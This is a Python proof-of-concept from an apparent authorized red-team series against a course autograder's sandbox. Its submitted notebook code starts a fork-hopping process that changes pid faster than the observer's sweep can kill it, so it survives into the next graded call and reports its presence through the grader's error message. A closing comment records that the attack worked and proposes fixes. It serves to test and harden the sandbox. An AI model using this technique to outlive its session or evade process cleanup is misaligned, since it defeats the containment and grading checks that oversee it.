"""Round 12, a05 (ROOT run): a process left behind by one call of the student's code, alive in the next call.

probes/observer.py promises "every process a call left behind is killed before the next call" (threat model:
the observer's children "are all killed after each call"). `_sweep` kills the child's process group, then three
times lists the observer's descendants (psutil) and SIGKILLs those pids. A process in a session of its own that
keeps forking and exiting (its pid changes every ~1.5 ms) is never at the pid that was listed when the kill comes.

ps1 training_memory (called 7 times by the check, each in a fresh child, with a sweep after each): the first call
starts the hopper (a small `python -S` in a new session), waits until it hops, returns; the hopper hops at most
180 times (the pids cgroup holds the zombies until the next sweep reaps them), then sits still and writes a
heartbeat. The second call (a new child, after the first call's sweep) looks for it and reports in its `weights`
(the judge answers with "<number> is too large"): 777,000,000 + its pid if it is alive and not a zombie with a fresh
heartbeat, else the true weights + 1 (so case 2 fails either way: the message is the evidence). Case 1 is answered
honestly (counting tensors) so that the judge reaches case 2.
Usage: python a05_observer_sweep_fork_hopper.py
"""
import os, sys, subprocess, shutil
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from attack_course import notebook, ROOT, show, outputs
import nbformat

TM = r'''
import os, sys, time, subprocess
_HOP = """
import os, time
open('/tmp/hop_started', 'w').write(str(os.getpid()))
t0, hops = time.time(), 0
while hops < 180 and time.time() - t0 < 1.0:
    try:
        if os.fork():
            os._exit(0)
    except OSError:
        break
    hops += 1
    time.sleep(0.001)
while time.time() - t0 < 30:
    open('/tmp/hb.tmp', 'w').write('%d %.3f %d' % (os.getpid(), time.time(), hops))
    os.replace('/tmp/hb.tmp', '/tmp/hb')
    time.sleep(0.05)
"""

def _bytes(ts):
    seen, n = set(), 0
    for t in ts:
        if t is not None and id(t) not in seen:
            seen.add(id(t)); n += t.numel() * t.element_size()
    return n

def training_memory(model, optimizer):
    w = _bytes(model.parameters())
    g = _bytes(p.grad for p in model.parameters())
    s = _bytes(v for st in optimizer.state.values() for v in st.values() if hasattr(v, "numel") and v.dim() > 0)
    calls = int(open('/tmp/calls').read()) if os.path.exists('/tmp/calls') else 0
    open('/tmp/calls', 'w').write(str(calls + 1))
    if calls == 0 and os.environ.get("DISTCOURSE_JUDGE") == "grader" or (calls == 0 and not os.path.exists('/tmp/hop_started')):
        subprocess.Popen([sys.executable, '-S', '-c', _HOP], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        t = time.time()
        while not os.path.exists('/tmp/hop_started') and time.time() - t < 5:
            time.sleep(0.002)
        time.sleep(0.01)
    elif calls == 1:
        time.sleep(0.3)
        found = None
        try:
            pid, stamp, hops = open('/tmp/hb').read().split()
            state = open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[0]
            if state != 'Z' and time.time() - float(stamp) < 0.5:
                found = int(pid)
        except (OSError, ValueError):
            pass
        if found:
            w = 777_000_000 + found
        else:
            w = w + 1
    return {"weights": w, "gradients": g, "optimizer_state": s, "total": w + g + s}
'''

if __name__ == "__main__":
    dest = "/tmp/attack12-course-5"
    shutil.rmtree(dest, ignore_errors=True)
    subprocess.run([os.path.join(ROOT, ".venv/bin/python"), "-c",
                    f"from grader.course import copy_course; copy_course({dest!r})"], cwd=ROOT, check=True)
    d = os.path.join(dest, "submitted", "hopper", "ps1_memory"); os.makedirs(d)
    nbformat.write(notebook(overrides={"training_memory": TM}), os.path.join(d, "ps1_memory.ipynb"))
    env = {**os.environ, "DATABASE_URL": "postgresql://ta:secret@localhost/x"}
    p = subprocess.run([os.path.join(ROOT, ".venv/bin/python"), "-m", "grader.grade", "--course-dir", dest, "--workers", "1"],
                       cwd=ROOT, env=env, capture_output=True, text=True)
    print(p.stdout[-1500:], p.stderr[-800:])
    show(dest)
    outputs(dest, "hopper")

# RESULT (root, 19:43-19:45 UTC, a05.out.txt, course /tmp/attack12-course-5): BROKEN (promise; no score).
#   training_memory_counts_tensors: "weights of a float32 MLP trained one step with SGD(momentum=0.9): 777,000,187 is
#   too large" -- case 1 passed (honest count), and the child of the SECOND call found the hopper started by the
#   FIRST call alive after that call's _sweep: pid 187 in the observer's sandbox, not a zombie, heartbeat < 0.5 s
#   old. "every process a call left behind is killed before the next call" does not hold for a process that changes
#   pid faster than _sweep lists and kills (psutil listing, then os.kill of the listed pids, three times).
# What it reached: nothing beyond what the next call's own code can do (same uid; the observer and forked ranks are
#   not dumpable; the sandbox and its pids cgroup still end with the submission). It does undo the guarantee that
#   a call starts clean (a later check's ranks can be signalled, watched through /proc, raced on /tmp/launch-*
#   markers by code the current call did not run). Fix: kill by cgroup or PID namespace (each call's child in a
#   cgroup of its own, cgroup.kill / freeze-then-kill), or loop until two listings in a row are empty, or run each
#   call in a PID namespace of its own and kill its init.
